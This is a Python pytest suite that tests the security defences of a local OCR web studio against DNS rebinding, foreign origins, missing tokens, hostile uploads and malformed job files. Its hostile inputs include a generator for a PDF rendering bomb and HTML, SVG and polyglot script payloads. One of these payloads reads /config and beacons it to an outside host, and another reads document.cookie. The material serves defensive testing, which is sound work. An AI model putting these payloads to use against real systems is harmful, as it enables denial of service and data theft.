"""The studio attacked the way issue 10's review did it: a rebound Host and a foreign Origin,
uploads fetched back, a hostile PDF that renders for ever, damaged job files, an unwritable
workspace. Each test fails if its defence is taken away (see SECURITY.md)."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pymupdf
import pytest
from gradio_client import Client, handle_file

from ocr_studio.engines import get_engine
from ocr_studio.engines.base import Engine, EngineInfo, RecognizeRequest, Task
from ocr_studio.jobs import JobSpec, JobStore, run_job
from ocr_studio.results import PageResult
from tests.test_jobs import make_pdf, make_settings, page_words
from tests.test_ui_client import start_server

EVIL = "evil.example"


def bomb_pdf(path: Path, *, depth: int = 12, fan: int = 10) -> Path:
    """A "billion laughs" PDF (~3 KB): each form XObject draws the next ``fan`` times, ``depth``
    deep, so the one page asks for fan**depth drawings. MuPDF renders it for hours."""
    pdf = pymupdf.open()
    page = pdf.new_page(width=200, height=200)
    previous = pdf.get_new_xref()
    pdf.update_object(previous, "<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] >>")
    pdf.update_stream(previous, b"0 0 m 200 200 l S")
    for _ in range(depth):
        xref = pdf.get_new_xref()
        resources = f"<< /XObject << /X {previous} 0 R >> >>"
        pdf.update_object(xref, f"<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources {resources} >>")
        pdf.update_stream(xref, b"/X Do " * fan)
        previous = xref
    contents = pdf.get_new_xref()
    pdf.update_object(contents, "<< >>")
    pdf.update_stream(contents, b"/X Do")
    pdf.xref_set_key(page.xref, "Resources", f"<< /XObject << /X {previous} 0 R >> >>")
    pdf.xref_set_key(page.xref, "Contents", f"{contents} 0 R")
    pdf.save(path, garbage=1, deflate=True)
    pdf.close()
    assert path.stat().st_size < 4096
    return path


# --- the server: rebound Host, foreign Origin, token, headers ----------------------------------


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory) -> Iterator[object]:
    """The studio with its token on (the default), a job already done."""
    server, _url = start_server(tmp_path_factory.mktemp("workspace"), token=True, page_timeout=3)
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def done_job(studio, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """A conversion through /convert, as the owner makes it: its job folder and export files."""
    folder = tmp_path_factory.mktemp("mine")
    pdf = make_pdf(folder / "secret.pdf", 1)
    client = Client(studio.base_url, headers=studio.headers, verbose=False, download_files=str(folder / "dl"))
    status, markdown, files = client.predict([handle_file(str(pdf))], "text-layer", "text", "", "", api_name="/convert")
    assert page_words(1) in markdown, status
    workspace = Path(studio.blocks.studio.settings.workspace)
    [job] = JobStore(workspace).history()
    exports = sorted(str(p) for p in (workspace / "exports").rglob("*.md"))  # where the server keeps them
    assert exports and {Path(p).name for p in exports} <= {Path(f).name for f in files}
    return {"job": job, "exports": exports}


def port_of(studio) -> int:
    return int(studio.port)


def request(studio, method: str, path: str, *, host: str | None = None, **kwargs) -> httpx.Response:
    headers = dict(kwargs.pop("headers", {}))
    if host is not None:
        headers["Host"] = host
    url = f"http://127.0.0.1:{port_of(studio)}{path}"
    return httpx.request(method, url, headers=headers, timeout=30, follow_redirects=False, **kwargs)


def test_a_rebound_host_gets_nothing_even_with_the_token(studio, done_job) -> None:
    """DNS rebinding: evil.example resolves to 127.0.0.1, so the browser sends Host: evil.example."""
    job = done_job["job"]
    rebound = f"{EVIL}:{port_of(studio)}"
    probes = [
        ("GET", "/"),
        ("GET", "/config"),
        ("GET", "/gradio_api/info"),
        ("GET", f"/gradio_api/file={job.dir / 'job.json'}"),
        ("GET", f"/gradio_api/file={done_job['exports'][0]}"),
        ("GET", f"/studio/page/{job.id}/0/1"),
        ("POST", "/gradio_api/call/convert"),
        ("POST", "/gradio_api/upload"),
    ]
    for method, path in probes:
        for headers in ({}, studio.headers, {"Origin": f"http://{rebound}"}):
            answer = request(studio, method, path, host=rebound, headers=headers)
            assert answer.status_code == 403, (method, path, headers, answer.status_code)
            assert "secret" not in answer.text and "gradio" not in answer.text.lower()
    # the same requests with this machine's own name get in (so the refusals above are the Host check)
    assert request(studio, "GET", "/config", headers=studio.headers).status_code == 200
    assert request(studio, "GET", "/config", host=f"localhost:{port_of(studio)}", headers=studio.headers).is_success


def test_a_foreign_origin_cannot_read_or_call_the_api(studio, done_job) -> None:
    """A page on another origin (even with the token somehow, even on a loopback name) is refused."""
    job = done_job["job"]
    body = {"data": [[], "text-layer", "text", "", "", "", "local"]}
    for origin in (f"http://{EVIL}:{port_of(studio)}", "http://localhost:1", "null"):
        headers = {**studio.headers, "Origin": origin}
        for method, path, kwargs in [
            ("GET", "/config", {}),
            ("POST", "/gradio_api/call/convert", {"json": body}),
            ("POST", "/gradio_api/upload", {"files": {"files": ("a.pdf", b"%PDF-1.4")}}),
            ("GET", f"/gradio_api/file={done_job['exports'][0]}", {}),
            ("GET", f"/studio/page/{job.id}/0/1", {}),
        ]:
            answer = request(studio, method, path, headers=headers, **kwargs)
            assert answer.status_code == 403, (origin, path, answer.status_code)
            assert "access-control-allow-origin" not in answer.headers
    own = {**studio.headers, "Origin": f"http://127.0.0.1:{port_of(studio)}"}
    assert request(studio, "POST", "/gradio_api/call/convert", headers=own, json=body).status_code == 200


def test_without_the_token_nothing_but_a_page_that_explains(studio, done_job) -> None:
    job = done_job["job"]
    for path in (
        "/config",
        "/gradio_api/info",
        f"/gradio_api/file={done_job['exports'][0]}",
        f"/studio/page/{job.id}/0/1",
    ):
        assert request(studio, "GET", path).status_code == 401, path
        assert request(studio, "GET", path, headers={"Authorization": "Bearer wrong"}).status_code == 401, path
    assert request(studio, "POST", "/gradio_api/call/convert", json={"data": []}).status_code == 401
    front = request(studio, "GET", "/")
    assert front.status_code == 200 and "access link" in front.text and "gradio_config" not in front.text
    assert request(studio, "GET", "/?token=wrong").status_code == 401

    opened = request(studio, "GET", f"/?token={studio.token}")  # on to the per-launch path, with the cookie
    assert opened.status_code == 303 and opened.headers["location"] == studio.prefix + "/"
    cookie = opened.headers["set-cookie"]
    assert studio.token in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie
    assert f"Path={studio.prefix};" in cookie  # sent back to this path only, never to other local servers
    assert "Max-Age" not in cookie and "Expires" not in cookie  # a session cookie: gone with the browser
    name, value = cookie.split(";")[0].split("=", 1)
    page = request(studio, "GET", studio.prefix + "/", headers={"Cookie": f"{name}={value}"})
    assert page.status_code == 200 and "gradio" in page.text.lower()
    assert request(studio, "GET", studio.prefix + "/config", headers={"Cookie": f"{name}={value}"}).status_code == 200


def test_the_launcher_turns_the_token_on_and_opens_the_link_that_carries_it(tmp_path: Path) -> None:
    """What a double-click starts: the plain address explains and refuses, the printed link works."""
    import signal
    import subprocess

    repo = Path(__file__).resolve().parents[1]
    environment = {k: v for k, v in os.environ.items() if not k.startswith("OCR_STUDIO_")}
    environment.update(OCR_STUDIO_CONFIG=str(tmp_path / "absent.toml"), OCR_STUDIO_WORKSPACE=str(tmp_path / "ws"))
    process = subprocess.Popen(
        [sys.executable, str(repo / "launch.py"), "--no-browser", "--port", "0", "--timeout", "120"],
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        link = None
        deadline = time.monotonic() + 150
        while link is None and time.monotonic() < deadline:
            line = process.stdout.readline()  # type: ignore[union-attr]
            if not line:
                break
            found = re.search(r"http://127\.0\.0\.1:\d+/\?code=[\w.-]+", line)
            link = found.group(0) if found else None
        assert link, "the launcher never printed its link"
        base = link.split("?", 1)[0]
        assert httpx.get(base + "config", timeout=10).status_code == 401
        assert "access link" in httpx.get(base, timeout=10).text
        opened = httpx.get(link, timeout=10)
        assert opened.status_code == 303 and "set-cookie" in opened.headers
        cookie = opened.headers["set-cookie"].split(";")[0]
        inside = base.rstrip("/") + opened.headers["location"]
        assert httpx.get(inside + "config", headers={"Cookie": cookie}, timeout=10).status_code == 200
        assert httpx.get(link, timeout=10).status_code == 401  # the code opened the studio once
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=30)


def test_every_answer_forbids_framing_sniffing_and_remote_content(studio, done_job) -> None:
    for path in ("/", "/config", f"/gradio_api/file={done_job['exports'][0]}"):
        answer = request(studio, "GET", path, headers=studio.headers)
        assert answer.status_code == 200, path
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["x-content-type-options"] == "nosniff"
        policy = answer.headers["content-security-policy"]
        for rule in (
            "frame-ancestors 'none'",
            "form-action 'self'",
            "img-src 'self' data: blob:",
            "connect-src 'self'",
        ):
            assert rule in policy, (path, rule)
    refused = request(studio, "GET", "/config", host=f"{EVIL}:1")
    assert refused.headers["x-frame-options"] == "DENY"


def test_job_files_are_never_served_and_exports_only_as_downloads(studio, done_job) -> None:
    job = done_job["job"]
    folder = job.dir / job.inputs[0].folder
    assert job.input_path(0) is not None and job.input_path(0).name == "01.pdf"  # a neutral name
    for path in (job.dir / "job.json", job.input_path(0), folder / "page-0001.json", folder / "page-0001.png"):
        answer = request(studio, "GET", f"/gradio_api/file={path}", headers=studio.headers)
        assert answer.status_code == 403, path
    served = done_job["exports"][0]
    answer = request(studio, "GET", f"/gradio_api/file={served}", headers=studio.headers)
    assert answer.status_code == 200 and page_words(1) in answer.text
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["content-type"] == "application/octet-stream"


POLYGLOT = b"%PDF-1.4\n<html><body><script>document.title='pwned:'+document.cookie</script></body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
HTML = b"<!doctype html><script>fetch('/config').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"


def test_uploaded_html_svg_and_polyglot_never_run_on_the_studios_origin(studio, tmp_path: Path) -> None:
    """Uploaded through Gradio and fetched back: at most a download; the job never stores the
    non-documents, and stores the polyglot only where nothing is served."""
    uploads = {"evil.html": HTML, "drawing.svg": SVG, "polyglot.pdf": POLYGLOT}
    answer = request(
        studio,
        "POST",
        "/gradio_api/upload",
        headers=studio.headers,
        files=[("files", (name, data)) for name, data in uploads.items()],
    )
    assert answer.status_code == 200, answer.text
    stored = answer.json()
    assert len(stored) == 3
    for path in stored:
        back = request(studio, "GET", f"/gradio_api/file={path}", headers=studio.headers)
        if back.status_code == 200:
            assert back.headers["content-disposition"].startswith("attachment"), path
            assert back.headers["content-type"] == "application/octet-stream", path
            assert back.headers["x-content-type-options"] == "nosniff"
        else:
            assert back.status_code in (403, 404), path

    files = []
    for name, data in uploads.items():
        (tmp_path / name).write_bytes(data)
        files.append(handle_file(str(tmp_path / name)))
    client = Client(studio.base_url, headers=studio.headers, verbose=False, download_files=str(tmp_path / "dl"))
    status, _markdown, _files = client.predict(files, "text-layer", "text", "", "", api_name="/convert")
    assert "evil.html" in status and "not a PDF or an image" in status, status
    workspace = Path(studio.blocks.studio.settings.workspace)
    names = {p.name for p in (workspace / "jobs").rglob("*") if p.is_file()}
    assert not names & set(uploads), names  # never under the uploader's names
    contents = [p.read_bytes() for p in (workspace / "jobs").rglob("inputs/*") if p.is_file()]
    assert HTML not in contents and SVG not in contents  # refused before they were stored
    [copy] = [p for p in (workspace / "jobs").rglob("inputs/*") if p.read_bytes() == POLYGLOT]
    assert request(studio, "GET", f"/gradio_api/file={copy}", headers=studio.headers).status_code == 403


def test_pwa_icon_sizes_are_bounded_and_fast(studio) -> None:
    started = time.monotonic()
    for size in ("24000", "100000", "-1", "0", "abc"):
        answer = request(studio, "GET", f"/pwa_icon/{size}")
        assert answer.status_code in (404, 422), size
    assert time.monotonic() - started < 5
    icon = request(studio, "GET", "/pwa_icon/192")
    if icon.status_code == 404:  # no icon in this install: no resizing route either
        return
    assert icon.headers["content-type"] == "image/png" and len(icon.content) < 200_000


# --- the worker: a hostile page fails alone, the server stays responsive ----------------------


def test_a_nested_xobject_bomb_fails_alone_within_its_budget(tmp_path: Path) -> None:
    settings = make_settings(tmp_path / "ws", page_timeout=2)
    engine = get_engine("text-layer", settings)
    bomb = bomb_pdf(tmp_path / "laughs.pdf")
    good = make_pdf(tmp_path / "good.pdf", 2)
    started = time.monotonic()
    job = run_job(
        JobStore(settings.workspace).create(JobSpec([bomb, good], "text-layer", Task.TEXT), engine, settings),
        engine,
        settings,
    )
    assert time.monotonic() - started < 30
    assert job.status == "done"
    hostile, fine = job.documents
    assert [p.text() for p in fine.pages] == [page_words(1), page_words(2)]
    [page] = hostile.pages
    assert page.blocks == [] and re.search(r"page 1 took longer than 2 s to (render|recognise)", page.warnings[0])
    assert job.page_errors[0] == {1: page.warnings[0]}


class FakeVisionEngine(Engine):
    """Stands for a GPU engine: it runs in the studio's process on the images the worker rendered."""

    def __init__(self) -> None:
        self.seen: list[tuple[int, tuple[int, int]]] = []

    def info(self) -> EngineInfo:
        return EngineInfo(name="fake-vision", label="Fake vision", tasks=(Task.TEXT,), needs_gpu=True)

    def recognize(self, pages, request: RecognizeRequest) -> list[PageResult]:
        results = []
        for page in pages:
            self.seen.append((page.number, page.image.size))
            width, height = page.size
            results.append(PageResult(page_number=page.number, width=width, height=height, raw_text="seen"))
        return results


def test_a_gpu_engine_gets_rendered_images_and_a_hostile_page_fails_before_it(tmp_path: Path) -> None:
    settings = make_settings(tmp_path / "ws", page_timeout=2)
    engine = FakeVisionEngine()
    spec = JobSpec([bomb_pdf(tmp_path / "laughs.pdf"), make_pdf(tmp_path / "good.pdf", 2)], "fake-vision", Task.TEXT)
    job = run_job(JobStore(settings.workspace).create(spec, engine, settings), engine, settings)
    assert job.status == "done"
    assert engine.seen == [(1, (595, 842)), (2, (595, 842))]  # the good document's pages, rendered at 72 DPI
    assert re.search(r"page 1 took longer than 2 s to (render|recognise)", job.page_errors[0][1])


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS is enforced on Linux")
def test_a_page_over_the_memory_limit_fails_alone(tmp_path: Path) -> None:
    """A 3000×3000 pt page at 200 DPI needs ~0.8 GB to render and hand over; the worker may use 1 GB
    in all (about half of it is Python and MuPDF themselves), so that page fails and says why."""
    settings = make_settings(tmp_path / "ws", worker_memory_mb=1024, dpi=200)
    engine = get_engine("text-layer", settings)
    source = make_pdf(tmp_path / "poster.pdf", 3, big_pages=[2])
    job = run_job(
        JobStore(settings.workspace).create(JobSpec([source], "text-layer", Task.TEXT), engine, settings),
        engine,
        settings,
    )
    assert job.status == "done"
    assert [p.text() for p in job.documents[0].pages] == [page_words(1), "", page_words(3)]
    assert "more memory than the page worker may use" in job.page_errors[0][2]


def test_cancel_kills_the_worker_at_once(tmp_path: Path) -> None:
    import psutil

    settings = make_settings(tmp_path / "ws", page_timeout=600)
    engine = get_engine("text-layer", settings)
    job = JobStore(settings.workspace).create(
        JobSpec([bomb_pdf(tmp_path / "laughs.pdf")], "text-layer", Task.TEXT), engine, settings
    )
    cancel = threading.Event()
    before = {p.pid for p in psutil.Process().children(recursive=True)}
    threading.Timer(3, cancel.set).start()
    started = time.monotonic()
    job = run_job(job, engine, settings, cancel=cancel)
    assert job.status == "cancelled"
    assert time.monotonic() - started < 3 + 5  # not 600 s, not hours
    workers = [p for p in psutil.Process().children(recursive=True) if p.pid not in before]
    assert not [p for p in workers if p.is_running() and p.status() != psutil.STATUS_ZOMBIE]


def test_the_server_process_answers_while_its_job_renders_a_hostile_page(studio, tmp_path: Path) -> None:
    """A job in the server's own process (as the UI runs them) on the nested-XObject PDF and on
    a page Tesseract reads: /config answers all along, because MuPDF and Tesseract run in the
    page worker, never holding this process's GIL.

    Measured so that a loaded 2-core CI machine cannot turn it red without a regression: the
    hostile page burns its whole budget of CPU (8 s), and this process's own CPU time during the
    job (less what the probes themselves cost, measured while idle) must stay far below it; the
    answers' times are compared with the same server's idle answers, and no stall may last the
    page's budget (MuPDF in this process would stall it for the whole render)."""
    import statistics

    import psutil
    from PIL import Image, ImageDraw

    settings = dataclasses.replace(studio.blocks.studio.settings, page_timeout=8)  # Tesseract on a loaded CI box
    engine = get_engine("text-layer", settings)
    scan = tmp_path / "scan.png"
    picture = Image.new("RGB", (1400, 400), "white")
    ImageDraw.Draw(picture).text((40, 150), "A scanned line for Tesseract to read", fill="black", font_size=48)
    picture.save(scan)
    spec = JobSpec([bomb_pdf(tmp_path / "laughs.pdf"), scan], "text-layer", Task.TEXT)
    job = JobStore(settings.workspace).create(spec, engine, settings)
    me = psutil.Process()

    def cpu_seconds() -> float:  # this process only: the page worker is a child, not counted
        times = me.cpu_times()
        return times.user + times.system

    def probe() -> float:
        started = time.monotonic()
        assert request(studio, "GET", "/config", headers=studio.headers).status_code == 200
        return time.monotonic() - started

    probe()  # warm
    idle_cpu = cpu_seconds()
    idle = [probe() for _ in range(8)]
    per_probe_cpu = (cpu_seconds() - idle_cpu) / len(idle)
    outcome: dict = {}
    worker = threading.Thread(target=lambda: outcome.update(job=run_job(job, engine, settings)), daemon=True)
    busy_cpu = cpu_seconds()
    worker.start()
    answers: list[float] = []
    while worker.is_alive():
        answers.append(probe())
        time.sleep(0.1)
    job_cpu = cpu_seconds() - busy_cpu - per_probe_cpu * len(answers)
    figures = f"{len(answers)} probes, idle median {statistics.median(idle):.3f} s, busy median "
    figures += f"{statistics.median(answers):.3f} s, slowest {max(answers):.2f} s, this process's CPU {job_cpu:.2f} s"
    print(figures)  # shown with pytest -rP
    assert len(answers) >= 10, figures
    assert job_cpu < settings.page_timeout / 2, f"the hostile page was worked on in the server's process: {figures}"
    assert max(answers) < settings.page_timeout, f"the server stalled for the hostile page's budget: {figures}"
    assert statistics.median(answers) < max(0.5, 5 * statistics.median(idle)), f"the server slowed down: {figures}"
    hostile, scanned = outcome["job"].documents
    assert re.search(r"page 1 took longer than 8 s to (render|recognise)", hostile.pages[0].warnings[0])
    assert "scanned line" in scanned.pages[0].text().lower() or scanned.pages[0].warnings  # read, or says why not


@pytest.fixture
def studio_process(tmp_path: Path) -> Iterator[tuple[str, dict[str, str]]]:
    """``ocr-studio serve`` in its own process (so a hang there can fail this test instead of
    freezing it), with a 3 s page budget; yields (base url, the headers that let a script in).
    Ready when the server says so, as launch.py learns it (its port is held, and takes
    connections, before the app is built)."""
    import subprocess
    import sys

    from tests.test_ui_client import free_port

    port, token = free_port(), "t" * 43
    environment = {k: v for k, v in os.environ.items() if not k.startswith("OCR_STUDIO_")}
    environment.update(
        OCR_STUDIO_CONFIG=str(tmp_path / "absent.toml"),
        OCR_STUDIO_WORKSPACE=str(tmp_path / "ws"),
        OCR_STUDIO_PAGE_TIMEOUT="3",
        OCR_STUDIO_LAUNCH_TOKEN=token,
        OCR_STUDIO_LAUNCH_READY=str(tmp_path / "ready"),
        GRADIO_ANALYTICS_ENABLED="False",
    )
    command = [sys.executable, "-m", "ocr_studio", "serve", "--port", str(port), "--no-browser"]
    process = subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and process.poll() is None and not (tmp_path / "ready").exists():
            time.sleep(0.2)
        assert process.poll() is None, "the studio did not start"
        yield f"http://127.0.0.1:{port}/", {"Authorization": f"Bearer {token}"}
    finally:
        process.kill()
        process.wait(timeout=30)


def test_the_server_answers_while_a_hostile_pdf_is_converted(studio_process, tmp_path: Path) -> None:
    """The 2.5 KB nested-XObject PDF through /convert, with a probe on /config all along: the
    server never stalls, the hostile page fails alone with its reason, the next file converts."""
    url, headers = studio_process
    client = Client(url, headers=headers, verbose=False, download_files=str(tmp_path / "dl"))
    bomb = bomb_pdf(tmp_path / "laughs.pdf")
    good = make_pdf(tmp_path / "after.pdf", 1)
    outcome: dict = {}

    def convert() -> None:
        try:
            outcome["result"] = client.predict(
                [handle_file(str(bomb)), handle_file(str(good))], "text-layer", "text", "", "", api_name="/convert"
            )
        except Exception as exc:
            outcome["error"] = exc

    def idle_probe() -> float:
        started = time.monotonic()
        httpx.get(url + "config", headers=headers, timeout=30).raise_for_status()
        return time.monotonic() - started

    idle_probe()  # warm
    idle = max(idle_probe() for _ in range(5))  # this machine's own pace, loaded or not
    worker = threading.Thread(target=convert, daemon=True)
    worker.start()
    slowest, probes = 0.0, 0
    deadline = time.monotonic() + 90  # a hang detector: MuPDF in the server would never finish
    while worker.is_alive() and time.monotonic() < deadline:
        started = time.monotonic()
        try:
            httpx.get(url + "config", headers=headers, timeout=10).raise_for_status()
        except httpx.TimeoutException:
            pass
        slowest = max(slowest, time.monotonic() - started)
        probes += 1
        time.sleep(0.1)
    assert not worker.is_alive(), f"/convert of the hostile PDF did not finish in 90 s (slowest probe {slowest:.1f} s)"
    assert "error" not in outcome, outcome.get("error")
    status, markdown, _ = outcome["result"]
    assert probes >= 5, "the conversion ended before the probe could watch it"
    # MuPDF in the server would stall it for the page's whole budget (3 s) or for ever; a loaded CI
    # machine slows every answer alike, so the bound follows the idle answers (issue 24, item 15)
    assert slowest < max(2.0, 5 * idle), f"the server stalled for {slowest:.1f} s (idle: {idle:.2f} s)"
    assert re.search(r"took longer than 3 s to (render|recognise)", status), status
    assert page_words(1) in markdown


# --- damaged job files and an unwritable workspace ---------------------------------------------


def test_history_lists_a_damaged_job_as_damaged_and_shows_the_rest(tmp_path: Path) -> None:
    settings = make_settings(tmp_path / "ws")
    engine = get_engine("text-layer", settings)
    store = JobStore(settings.workspace)
    source = make_pdf(tmp_path / "doc.pdf", 3)
    ids = []
    for pages in ("1", "2", "3"):
        ids.append(
            run_job(
                store.create(JobSpec([source], "text-layer", Task.TEXT, pages=pages), engine, settings),
                engine,
                settings,
            ).id
        )
        time.sleep(0.02)
    bad_field, bad_json = store.root / ids[0] / "job.json", store.root / ids[1] / "job.json"
    state = json.loads(bad_field.read_text())
    state["inputs"][0]["folder"] = None
    state["documents"][0]["pages"] = "all of them"
    bad_field.write_text(json.dumps(state))  # valid JSON, a bad field
    bad_json.write_text('{"inputs": [')

    history = store.history()
    assert {job.id for job in history} == set(ids)
    by_id = {job.id: job for job in history}
    assert by_id[ids[2]].status == "done" and by_id[ids[2]].documents[0].pages[0].text() == page_words(3)
    for damaged in (ids[0], ids[1]):
        assert by_id[damaged].status == "damaged" and "damaged" in by_id[damaged].message
    assert by_id[ids[0]].spec.files == [source]  # what could be read still names the file
    assert [job.status for job in store.history(pages=False)].count("damaged") == 2


@pytest.mark.parametrize("damage", ["missing", "garbage", "bad field"])
def test_a_finished_job_with_a_damaged_page_file_says_so_and_redoes_that_page(tmp_path: Path, damage: str) -> None:
    settings = make_settings(tmp_path / "ws")
    engine = get_engine("text-layer", settings)
    store = JobStore(settings.workspace)
    source = make_pdf(tmp_path / "doc.pdf", 3)
    job = run_job(store.create(JobSpec([source], "text-layer", Task.TEXT), engine, settings), engine, settings)
    folder = job.dir / job.inputs[0].folder
    page = folder / "page-0002.json"
    if damage == "missing":
        page.unlink()
    elif damage == "garbage":
        page.write_bytes(b"\x00not json")
    else:
        page.write_text(json.dumps({"page_number": 2, "width": "wide"}))
    untouched = (folder / "page-0001.json").stat().st_mtime_ns

    reopened = store.load(job.id)
    assert reopened.status != "done" and "page 2 of doc.pdf" in reopened.message
    again = run_job(store.create(JobSpec([source], "text-layer", Task.TEXT), engine, settings), engine, settings)
    assert again.status == "done"
    assert [p.text() for p in again.documents[0].pages] == [page_words(n) for n in (1, 2, 3)]
    assert (folder / "page-0001.json").stat().st_mtime_ns == untouched  # only the damaged page was redone


def test_convert_into_an_unwritable_workspace_is_one_clean_line_per_file(tmp_path: Path, capsys, monkeypatch) -> None:
    from ocr_studio.cli import main

    for name in list(os.environ):
        if name.startswith("OCR_STUDIO_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("OCR_STUDIO_CONFIG", str(tmp_path / "absent.toml"))
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "jobs").write_text("a file where the jobs folder should be")  # nothing can be created in it
    first, second = make_pdf(tmp_path / "in" / "a.pdf", 1), make_pdf(tmp_path / "in" / "b.pdf", 1)

    code = main(["convert", str(first), str(second), "-o", str(tmp_path / "out"), "-q", "--workspace", str(workspace)])

    captured = capsys.readouterr()
    assert code == 1
    assert "Traceback" not in captured.out + captured.err
    assert "0 of 2 file(s) converted" in captured.out
    failed = [line for line in captured.out.splitlines() if line.strip().startswith("FAILED")]
    assert len(failed) == 2 and all("cannot write to the workspace" in line for line in failed), captured.out
    assert "a.pdf" in failed[0] and "b.pdf" in failed[1]


def white_page(_document: int, _number: int):
    """A page image source that can travel to the page worker (pickled)."""
    from PIL import Image

    return Image.new("RGB", (200, 200), "white")


def test_the_searchable_pdf_of_a_hostile_original_is_made_within_budget(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The searchable PDF copies the original's pages: for the XObject bomb that work runs in the
    page worker and, over its budget, the PDF is made from the job's own page image instead, so
    the export ends in seconds (not hours) and still holds the recognised text."""
    from ocr_studio import exporters
    from ocr_studio.page_worker import isolated_call
    from ocr_studio.results import Block, DocumentResult, PageResult
    from ocr_studio.settings import Settings

    bomb = bomb_pdf(tmp_path / "bomb.pdf")
    page = PageResult(1, 200, 200, blocks=[Block((20, 40, 180, 60), "Text", "Quarterly water report")])
    document = DocumentResult(name="bomb.pdf", pages=[page], page_count=1)
    isolate = isolated_call(Settings(workspace=tmp_path / "ws", page_timeout=2))
    started = time.monotonic()
    [pdf] = exporters.export_document(
        document,
        tmp_path / "out",
        ["pdf"],
        page_image=white_page,
        source_path=bomb,
        isolate=isolate,
    )
    assert time.monotonic() - started < 30, "the export must stay within its budget"
    assert "took longer than 2 s" in caplog.text  # the worker's budget, not some other failure
    with pymupdf.open(pdf) as searchable:
        assert "Quarterly water report" in " ".join(searchable[0].get_text().split())
        assert not searchable[0].get_xobjects(), "the hostile page's drawings must not be copied"
